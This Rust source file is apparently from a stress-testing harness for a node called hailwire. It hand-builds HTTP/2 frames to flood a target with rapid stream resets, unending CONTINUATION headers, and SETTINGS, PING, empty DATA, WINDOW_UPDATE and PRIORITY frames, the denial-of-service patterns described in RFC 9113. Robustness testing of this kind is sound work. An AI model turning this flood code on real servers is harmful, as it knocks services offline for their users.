//! HTTP/2 floods that no real client sends: resets, heads and settings without end (RFC 9113, 10.5).

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::timeout,
};
use tokio_rustls::client::TlsStream;

use super::{AttackCounters, AttackOrders, PAUSE_AFTER_REFUSAL, pace};
use crate::{
    BenchError,
    siege::peer::{KeySeed, NodeAddress, random},
};

/// Frames a second, in as many writes of [`FRAMES_PER_WRITE`].
const PER_SECOND: f64 = 100.0;

/// Frames of one write.
const FRAMES_PER_WRITE: usize = 20;

/// How long one kind of flood lasts, and a connection on which nothing more can be written is held.
const CONNECTION_LIFETIME: Duration = Duration::from_secs(5);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The frames of a flood.
#[derive(Clone, Copy, Debug)]
enum Http2Flood {
    /// Streams that are opened and reset at once.
    Resets,
    /// A head that does not end.
    Continuation,
    /// Settings, each of which is to be acknowledged.
    Settings,
    /// Pings, likewise.
    Pings,
    /// DATA without data.
    Empty,
    /// WINDOW_UPDATE frames that are not needed.
    Windows,
    /// PRIORITY frames for streams that do not exist.
    Priorities,
}

impl Http2Flood {
    const ALL: [Self; 7] = [
        Self::Resets,
        Self::Continuation,
        Self::Settings,
        Self::Pings,
        Self::Empty,
        Self::Windows,
        Self::Priorities,
    ];

    const fn name(self) -> &'static str {
        match self {
            Self::Resets => "rapid resets",
            Self::Continuation => "CONTINUATION",
            Self::Settings => "SETTINGS",
            Self::Pings => "PING",
            Self::Empty => "empty DATA",
            Self::Windows => "WINDOW_UPDATE",
            Self::Priorities => "PRIORITY",
        }
    }

    /// The frames before the flood.
    fn begin(self, out: &mut Vec<u8>) {
        match self {
            // Without END_HEADERS.
            Self::Continuation => frame(out, 1, 0, 3, &head("/hailwire/stream")),
            Self::Empty => frame(out, 1, 4, 3, &head("/hailwire/stream")),
            _ => {}
        }
    }

    /// The next frame of the flood.
    fn more(self, turn: u32, out: &mut Vec<u8>) {
        match self {
            Self::Resets => {
                let stream = 2 * turn + 3;
                frame(out, 1, 4, stream, &head("/hailwire/stream"));
                frame(out, 3, 0, stream, &8_u32.to_be_bytes());
            }
            Self::Continuation => frame(out, 9, 0, 3, &field("x", "y")),
            Self::Settings => frame(out, 4, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Self::Pings => frame(out, 6, 0, 0, &[0; 8]),
            Self::Empty => frame(out, 0, 0, 3, &[]),
            Self::Windows => frame(out, 8, 0, 0, &1_u32.to_be_bytes()),
            Self::Priorities => frame(out, 2, 0, 2 * turn + 3, &[0, 0, 0, 1, 16]),
        }
    }
}

/// A frame (RFC 9113, 4.1).
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A header field without indexing (RFC 7541, 6.2.2).
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0, name.len() as u8];
    out.extend_from_slice(name.as_bytes());
    out.push(value.len() as u8);
    out.extend_from_slice(value.as_bytes());
    out
}

fn head(path: &str) -> Vec<u8> {
    [
        field(":method", "POST"),
        field(":scheme", "https"),
        field(":authority", "hailwire.invalid"),
        field(":path", path),
    ]
    .concat()
}

pub(super) async fn run(
    orders: &AttackOrders,
    counters: &AttackCounters,
) -> Result<(), BenchError> {
    for turn in 0_usize.. {
        let flood = Http2Flood::ALL[turn % Http2Flood::ALL.len()];
        if let Err(error) = Box::pin(one(orders.victim, flood, counters)).await {
            counters.refused(&format!("{}: {}", flood.name(), error.with_cause()));
        }
        tokio::time::sleep(PAUSE_AFTER_REFUSAL).await;
    }
    Ok(())
}

/// One pair of connections, until it is refused or has lasted.
async fn one(
    address: NodeAddress,
    flood: Http2Flood,
    counters: &AttackCounters,
) -> Result<(), BenchError> {
    let identity = KeySeed::draw()?.identity()?;
    let token: [u8; 16] = random()?;
    let mut forward = address.tls(&identity, b"h2").await?;
    let mut reverse = address.tls(&identity, b"hailwire-h2-reverse").await?;
    // On the reverse connection the node is the client: settings are all that it needs.
    let mut hello = token.to_vec();
    frame(&mut hello, 4, 0, 0, &[]);
    frame(&mut hello, 4, 1, 0, &[]);
    write(&mut reverse, &hello).await?;
    let mut hello = PREFACE.to_vec();
    frame(&mut hello, 4, 0, 0, &[]);
    let control = format!(
        "/hailwire/control/{}",
        data_encoding::HEXLOWER.encode(&token)
    );
    frame(&mut hello, 1, 4, 1, &head(&control));
    flood.begin(&mut hello);
    write(&mut forward, &hello).await?;
    counters.did("connections", 1);
    let mut pace = pace(PER_SECOND);
    let mut buffer = vec![0; 16 * 1024];
    let flooded = async {
        for turn in 0_u32.. {
            pace.tick().await;
            let mut frames = Vec::new();
            for number in 0..FRAMES_PER_WRITE as u32 {
                flood.more(turn * FRAMES_PER_WRITE as u32 + number, &mut frames);
            }
            write(&mut forward, &frames).await?;
            counters.did(flood.name(), FRAMES_PER_WRITE as u64);
            // Every other kind of flood reads the answers, so that only some are stopped by a full connection.
            if turn % 2 == 0 && !matches!(flood, Http2Flood::Settings | Http2Flood::Pings) {
                let read = timeout(Duration::from_millis(1), forward.read(&mut buffer)).await;
                if matches!(read, Ok(Ok(0) | Err(_))) {
                    return Err(BenchError::Unsupported("hung up"));
                }
            }
        }
        Ok(())
    };
    match timeout(CONNECTION_LIFETIME, flooded).await {
        Ok(ended) => ended,
        Err(_) => {
            counters.did("floods that lasted 5 s", 1);
            Ok(())
        }
    }
}

async fn write(io: &mut TlsStream<TcpStream>, bytes: &[u8]) -> Result<(), BenchError> {
    match timeout(CONNECTION_LIFETIME, io.write_all(bytes)).await {
        Err(_) => Err(BenchError::Unsupported("not read for 5 s")),
        Ok(written) => written.map_err(|_| BenchError::Unsupported("hung up")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_those_of_the_standard() {
        let mut out = Vec::new();
        frame(&mut out, 6, 1, 0, &[7; 8]);
        assert_eq!(out[..9], [0, 0, 8, 6, 1, 0, 0, 0, 0]);
        assert_eq!(field("a", "bc"), [0, 1, b'a', 2, b'b', b'c']);
        for flood in Http2Flood::ALL {
            let mut out = Vec::new();
            flood.more(1, &mut out);
            assert!(out.len() >= 9, "{}", flood.name());
        }
    }
}
